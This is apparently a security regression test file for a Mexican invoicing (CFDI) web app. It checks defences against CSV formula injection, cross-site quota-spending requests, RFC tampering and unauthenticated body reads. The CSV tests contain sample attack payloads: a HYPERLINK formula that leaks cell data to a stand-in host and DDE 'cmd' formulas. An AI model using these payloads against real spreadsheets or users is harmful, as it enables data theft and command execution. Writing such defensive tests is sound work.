// Hostile round 2 (issue 25, findings 2, 5, 8, 9 and 10): what an attacker from outside, holding an
// ordinary account or none, tried against the surfaces added after the first round. Each test is named
// after the rule that stopped the attack.
import { invoiceXml, newUuid, type Party } from '@folio/cfdi/testing';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLIENT, imported, ME, profileOfMe } from './cfdi-helpers';
import {
  bearer,
  caller,
  expectError,
  request,
  setPlan,
  signUp,
  signUpVerified,
  startTestApp,
  type TestApp,
  type TestUser,
  uploadXml,
} from './harness';

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(() => t.close());

const get = (u: TestUser, path: string) => request(t, 'GET', path, { headers: bearer(u.token) });

async function csvRows(res: Response) {
  expect(res.status).toBe(200);
  return parse(new Uint8Array(await res.arrayBuffer()), { bom: true, columns: true }) as Record<
    string,
    string
  >[];
}

describe('CSV formula injection (OWASP): text cells that a spreadsheet would run are prefixed with a quote', () => {
  const FORMULA = '=HYPERLINK("http://evil.test/?leak="&B2&C2,"ver")';

  it('a CFDI whose names and description start with =, @ or - exports them inert; its amounts stay numbers', async () => {
    const { u, p } = await profileOfMe(t, null); // FREE: csv is on every plan
    const evil: Party = { ...CLIENT, nombre: FORMULA };
    const uuid = newUuid();
    await imported(
      t,
      u,
      p.id,
      invoiceXml({
        uuid,
        fecha: '2025-03-10T09:15:00',
        emisor: { rfc: 'EKU9003173C9', nombre: '@SUM(1+1)*cmd|" /C calc"!A0', regimen: '601' },
        receptor: { ...evil, rfc: p.rfc },
        conceptos: [{ descripcion: '-2+3+cmd|" /C calc"!A0', importe: 1000 }],
      }),
    );
    const rows = await csvRows(await get(u, `/api/expenses/export?profileId=${p.id}&format=csv`));
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      'Nombre emisor': `'@SUM(1+1)*cmd|" /C calc"!A0`,
      'Nombre receptor': `'${FORMULA}`,
      Concepto: `'-2+3+cmd|" /C calc"!A0`,
      Subtotal: '1000', // numbers are not text: never prefixed
      Total: '1160', // 1000 + 16 % IVA (LIVA art. 1)
    });
  });

  it('a manual expense’s concept starting with + or - is neutralised; one with a dash inside is left as typed', async () => {
    const { u, p } = await profileOfMe(t, null);
    const period = await request(t, 'POST', '/api/periods', {
      headers: bearer(u.token),
      body: { profile_id: p.id, año: 2025, mes: 3 },
    });
    const periodId = (await period.json()).data.id;
    for (const concept of ['+1+cmd|" /C calc"!A0', '-menos', 'Papelería - oficina']) {
      const res = await request(t, 'POST', '/api/accrued-expenses', {
        headers: bearer(u.token),
        body: {
          profile_id: p.id,
          period_id: periodId,
          concept,
          subtotal: 100,
          fecha: '2025-03-14',
          type: 'manual',
        },
      });
      expect(res.status, await res.clone().text()).toBe(201);
    }
    const rows = await csvRows(await get(u, `/api/expenses/export?profileId=${p.id}&format=csv`));
    expect(rows.map((r) => r.Concepto).sort()).toEqual(
      [`'+1+cmd|" /C calc"!A0`, `'-menos`, 'Papelería - oficina'].sort(),
    );
  });
});

describe('CFDI dates are real calendar dates', () => {
  it('an import of Fecha 2021-02-30 is rejected with a motivo naming the date; nothing is stored', async () => {
    const { u, p } = await profileOfMe(t);
    const xml = invoiceXml({
      uuid: newUuid(),
      fecha: '2021-02-30T00:00:00',
      emisor: { ...CLIENT, rfc: p.rfc },
      receptor: CLIENT,
    });
    const res = await uploadXml(t, u, p.id, xml);
    expect(await res.json()).toEqual({
      error: 'Bad Request',
      message:
        'Fecha inválida: "2021-02-30T00:00:00" no existe en el calendario (febrero de 2021 tiene 28 días)',
      code: 'cfdi_rejected',
    });
    expect(res.status).toBe(400);
    const listed = await (await get(u, `/api/invoices?profileId=${p.id}`)).json();
    expect(listed.data).toEqual([]);
  });
});

describe('the RFC of a profile holding CFDI cannot change', () => {
  it('PUT /profiles/{id} with another RFC → 409 Conflict naming the way out; the RFC and the documents stay', async () => {
    const { u, p } = await profileOfMe(t, null); // FREE: one profile, which this must not sidestep
    await imported(
      t,
      u,
      p.id,
      invoiceXml({ uuid: newUuid(), fecha: '2025-03-10T09:15:00', emisor: ME, receptor: CLIENT }),
    );
    const res = await request(t, 'PUT', `/api/profiles/${p.id}`, {
      headers: bearer(u.token),
      body: { rfc: 'EKU9003173C9' },
    });
    expect(await expectError(res.clone(), 409, 'Conflict')).toBe(
      `This profile holds CFDI issued to or by ${ME.rfc}, so its RFC cannot change; create a new profile for EKU9003173C9`,
    );
    expect((await res.json()).code).toBe('rfc_locked');
    const after = await (await get(u, `/api/profiles/${p.id}`)).json();
    expect(after.data.rfc).toBe(ME.rfc);
    await expect(
      caller(t, u.token).profiles.update({ profileId: p.id, rfc: 'EKU9003173C9' }),
    ).rejects.toMatchObject({ code: 'CONFLICT' });
    // Its other fields, and the same RFC sent again, still change as before.
    const rename = await request(t, 'PUT', `/api/profiles/${p.id}`, {
      headers: bearer(u.token),
      body: { nombre: 'Comercial ABC renombrada', rfc: ME.rfc },
    });
    expect(rename.status).toBe(200);
  });

  it('a profile without CFDI may still correct its RFC', async () => {
    const { u, p } = await profileOfMe(t, null);
    const res = await request(t, 'PUT', `/api/profiles/${p.id}`, {
      headers: bearer(u.token),
      body: { rfc: 'EKU9003173C9' },
    });
    expect(res.status).toBe(200);
    expect((await res.json()).data.rfc).toBe('EKU9003173C9');
  });
});

describe('cross-site GETs that spend quota are refused to cookies', () => {
  const CROSS = { 'sec-fetch-site': 'cross-site' };
  const viaCookie = (u: TestUser, path: string, site?: string) =>
    request(t, 'GET', path, {
      headers: { cookie: `access_token=${u.token}`, ...(site ? { 'sec-fetch-site': site } : {}) },
    });

  it('a cross-site cookie GET of /api/sat/search or /api/sat/ai-search → 403 and spends nothing', async () => {
    const u = await signUp(t);
    await setPlan(t, u.id, 'BASIC');
    for (const path of [
      '/api/sat/search?query=computadoras',
      '/api/sat/ai-search?query=renta%20de%20un%20depa',
    ]) {
      for (const site of ['cross-site', 'same-site']) {
        const res = await viaCookie(u, path, site);
        expect(await expectError(res.clone(), 403, 'Forbidden')).toMatch(/^Cross-site request refused/);
        expect((await res.json()).code).toBe('cross_site_refused');
      }
      // The same user from our own page: the refused ones took nothing from the quota.
      const own = await viaCookie(u, path, 'same-origin');
      expect(own.status).toBe(200);
      expect(Number(own.headers.get('x-quota-remaining'))).toBe(Number(own.headers.get('x-quota-limit')) - 1);
    }
  });

  it('the same over tRPC GET (/trpc/sat.search) with the cookie', async () => {
    const u = await signUp(t);
    const input = encodeURIComponent(JSON.stringify({ json: { query: 'computadoras' } }));
    const res = await viaCookie(u, `/trpc/sat.search?input=${input}`, 'cross-site');
    expect(res.status).toBe(403);
    expect((await res.json()).error.json.data).toMatchObject({
      code: 'FORBIDDEN',
      errorCode: 'cross_site_refused',
    });
  });

  it('Bearer tokens, cookie reads that spend nothing and typed URLs are unaffected', async () => {
    const u = await signUp(t);
    const bearerCross = await request(t, 'GET', '/api/sat/search?query=papel', {
      headers: { ...bearer(u.token), ...CROSS },
    });
    expect(bearerCross.status).toBe(200);
    expect((await viaCookie(u, '/api/profiles', 'cross-site')).status).toBe(200);
    expect((await viaCookie(u, '/api/sat/search?query=papel', 'none')).status).toBe(200);
    expect((await viaCookie(u, '/api/sat/search?query=papel')).status).toBe(200);
  });
});

describe('authentication before any request body is read', () => {
  /** A 55 MB JSON body that counts the chunks anyone pulls from it (none are queued in advance). */
  function countedBody() {
    const seen = { pulled: 0 };
    const chunk = new TextEncoder().encode(`${' '.repeat(1024 * 1024 - 1)}\n`);
    const stream = new ReadableStream<Uint8Array>(
      {
        pull(controller) {
          seen.pulled++;
          if (seen.pulled > 55) controller.close();
          else controller.enqueue(chunk);
        },
      },
      { highWaterMark: 0 },
    );
    return { stream, seen };
  }

  const post = (path: string, headers: Record<string, string>, body: ReadableStream<Uint8Array>) =>
    t.app.request(path, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-forwarded-for': '10.9.9.9', ...headers },
      body,
      duplex: 'half',
    } as RequestInit);

  it('anonymous, a bad token, or an API key whose plan lost API access: /trpc/cfdi.import answers without pulling a byte', async () => {
    const dev = await signUpVerified(t);
    await setPlan(t, dev.id, 'BASIC');
    const created = await request(t, 'POST', '/api/api-keys', {
      headers: bearer(dev.token),
      body: { name: 'ci' },
    });
    const { key } = (await created.json()).data;
    await setPlan(t, dev.id, 'BASIC', 'CANCELED'); // the plan check: back on FREE, without apiAccess
    for (const [headers, status] of [
      [{}, 401],
      [bearer('not-a-token'), 401],
      [bearer(key), 403],
    ] as const) {
      const { stream, seen } = countedBody();
      const res = await post('/trpc/cfdi.import', headers, stream);
      expect(res.status).toBe(status);
      expect(seen.pulled).toBe(0);
    }
  });

  it('REST writes too: an anonymous POST /api/accrued-expenses or upload is 401 with the body unread', async () => {
    for (const path of ['/api/accrued-expenses', '/api/profiles/p1/cfdi/xml', '/api/periods']) {
      const { stream, seen } = countedBody();
      const res = await post(path, {}, stream);
      await expectError(res, 401, 'Unauthorized');
      expect(seen.pulled).toBe(0);
    }
  });

  it('an upload to a profile that is not the caller’s is refused before its body is read', async () => {
    const { p } = await profileOfMe(t);
    const stranger = await signUp(t);
    for (const [path, type] of [
      [`/api/profiles/${p.id}/cfdi/xml`, 'application/xml'],
      [`/api/profiles/${p.id}/cfdi`, 'multipart/form-data; boundary=x'],
    ]) {
      const { stream, seen } = countedBody();
      const res = await post(path!, { ...bearer(stranger.token), 'content-type': type! }, stream);
      await expectError(res, 403, 'Forbidden');
      expect(seen.pulled).toBe(0);
    }
  });

  it('an authenticated import still reads its body', async () => {
    const { u, p } = await profileOfMe(t);
    const xml = invoiceXml({ uuid: newUuid(), fecha: '2025-03-10T09:15:00', emisor: ME, receptor: CLIENT });
    const out = await caller(t, u.token).cfdi.import({
      profileId: p.id,
      files: [{ name: 'a.xml', content: xml }],
    });
    expect(out.data.imported).toBe(1);
  });
});
